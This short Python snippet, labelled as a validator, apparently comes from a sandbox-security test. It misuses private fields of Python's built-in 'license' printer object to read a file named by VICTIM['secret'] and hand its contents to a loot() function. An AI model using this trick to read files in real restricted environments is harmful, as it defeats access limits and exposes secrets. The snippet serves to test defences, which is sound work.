# kind: validator
# tries: The site printers read a file whose name can be set

license._Printer__filenames = [VICTIM["secret"]]
license._Printer__lines = None
license.MAXLINES = 100
license._Printer__setup()
loot("\n".join(license._Printer__lines))
